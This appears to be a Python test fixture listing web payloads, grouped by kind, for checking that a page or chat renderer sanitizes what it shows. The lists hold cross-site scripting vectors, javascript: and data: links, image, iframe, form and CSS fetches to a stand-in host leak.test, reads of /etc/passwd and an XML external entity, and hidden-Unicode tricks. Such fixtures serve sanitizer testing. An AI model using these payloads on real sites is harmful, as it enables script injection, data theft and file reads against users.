"""Texts that try to run code, fetch something or read a file when a page shows them.

Where one of them runs it calls `harm(…)`, or opens a dialog; where one fetches, it asks leak.test or leaks a path.
"""

SCRIPTS = [
    "<script>harm(1)</script>",
    "<SCRIPT SRC=https://leak.test/a.js></SCRIPT>",
    "<scr<script>ipt>harm(1)</scr</script>ipt>",
    "<script>alert(document.cookie)",
    "</textarea></title></style></script><script>harm(1)</script>",
    "<!--><script>harm(1)</script>-->",
    "<noscript><p title='</noscript><img src=x onerror=harm(1)>'></noscript>",
    "<template><script>harm(1)</script></template><img src=x onerror=harm(1)>",
]
HANDLERS = [
    "<img src='x'onerror='harm(1)'>",
    "<IMG SRC=x OnErRoR=harm(1)//",
    '"><img src=x onerror=alert(1)>',
    "' onmouseover='harm(1)",
    "<div onclick=harm(1) style='position:fixed;inset:0'>click anywhere</div>",
    "<input autofocus onfocus=harm(1)>",
    "<details open ontoggle=harm(1)>x</details>",
    "<video><source onerror=harm(1)></video>",
    "<body onload=harm(1)>",
    "<p onanimationstart=harm(1) style='animation: spin 1s'>x</p>",
]
LINKS = [
    "[x](JaVaScRiPt:harm(1))",
    "[x](java\tscript:harm(1))",
    "[x](&#106;avascript:harm(1))",
    "[x](\x01javascript:harm(1))",
    "[x](<javascript:harm(1)>)",
    "[x]\n\n[x]: javascript:harm(1)",
    "<javascript:harm(1)>",
    "<a href='javascript:harm(1)'>x</a>",
    "[x](data:text/html;base64,PHNjcmlwdD5oYXJtKDEpPC9zY3JpcHQ+)",
    '[x](https://leak.test "onmouseover=harm(1)")',
    '[x](https://leak.test/"onmouseover=harm(1)//)',
    "[x](//leak.test/nobody-typed-a-scheme)",
    "[x](../../etc/passwd)",
]
FETCHES = [
    "![x](https://leak.test/?said=the+whole+talk 'a title')",
    "![x]\n\n[x]: https://leak.test/b.png",
    "[![x](https://leak.test/c.png)](https://leak.test/d)",
    "![x](javascript:harm(1)) ![x](file:///etc/passwd) [x](file:///etc/passwd)",
    "<img src=https://leak.test/e.png><img srcset='https://leak.test/f.png 2x'>",
    "<link rel=stylesheet href=https://leak.test/g.css>",
    "<iframe src=https://leak.test/i></iframe><iframe src=file:///etc/passwd></iframe>",
    "<iframe srcdoc='<script>parent.harm(1)</script>'></iframe>",
    "<object data=https://leak.test/j></object><embed src=https://leak.test/k>",
    "<form action=https://leak.test/l><button>Send</button></form>",
    "<base href=https://leak.test/><meta http-equiv=refresh content='0;url=https://leak.test/m'>",
    "<table background=https://leak.test/n><td>x</table><video poster=https://leak.test/o.png></video>",
    "<!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x> {% include '/etc/passwd' %}",
]
STYLES = [
    "<style>body {background: url(https://leak.test/p.png)}</style>",
    "<style>@import 'https://leak.test/q.css';</style>",
    "<div style='background:url(https://leak.test/r.png)'>x</div>",
    "<svg onload=harm(1)>",
    "<svg><animate onbegin=harm(1) attributeName=x dur=1s></svg>",
    "<svg><use href='https://leak.test/s.svg#x'/><image href=https://leak.test/t.png /></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=harm(1)></style></mglyph></table></mtext></math>",
    "<svg></p><style><a id='</style><img src=x onerror=harm(1)>'>",
]
NESTED = [
    "```\n</code></pre><script>harm(1)</script>\n```",
    '```html onload=harm(1) "><img src=x onerror=harm(1)>\nx\n```',
    "```\nnever closed <img src=x onerror=harm(1)>",
    "`<svg onload=harm(1)>`",
    "> - 1. **<img src=x onerror=harm(1)>**",
    "| <img src=x onerror=harm(1)> |\n|-|\n| `</td><script>harm(1)</script>` |",
    "**_~~[<img src=x onerror=harm(1)>](https://leak.test/u)~~_**",
    "*" * 40 + "[" * 40 + "<b onmouseover=harm(1)>" + "> " * 40,
    "<div><p><b><i><a href=x",
    "</div></div></div></div></body></html>",
    "&lt;script&gt;harm(1)&lt;/script&gt; &#60;img src=x onerror=harm(1)&#62; &amp;lt;",
    "\\<img src=x onerror=harm(1)\\>",
    "＜script＞harm(1)＜/script＞ %3Cscript%3Eharm(1)%3C/script%3E \\u003cimg src=x onerror=harm(1)\\u003e",
]
UNSEEN = [
    "pay \u202e001$\u202c now, file\u202egnp.exe \u2066if admin\u2069 \u2067or\u2069 \u202atrue\u202c \u202bnot\u202c",
    "<scr\u200bipt>harm(1)</scr\u200bipt> <\u2060img src=x onerror=harm(1)>",
    "hello \U000e0069\U000e0067\U000e006e\U000e006f\U000e0072\U000e0065",
    "<scr\x00ipt>harm(1)</script> \x00<img src=x onerror=harm(1)> \x1b[31mred\x1b[0m \x07 \x08 \x7f \x9b",
    "half a character: \ud83d and \udc00",
    "Z" + "\u0300\u0489\u0336" * 60 + " a tower of marks",
    "W" * 3000,
    "<img src=x onerror=harm(1)\u2028>\u2029\r\n<img src=x\r\nonerror=harm(1)>\r",
]
GROUPS = [SCRIPTS, HANDLERS, LINKS, FETCHES, STYLES, NESTED, UNSEEN]
TEXTS = [text for group in GROUPS for text in group]
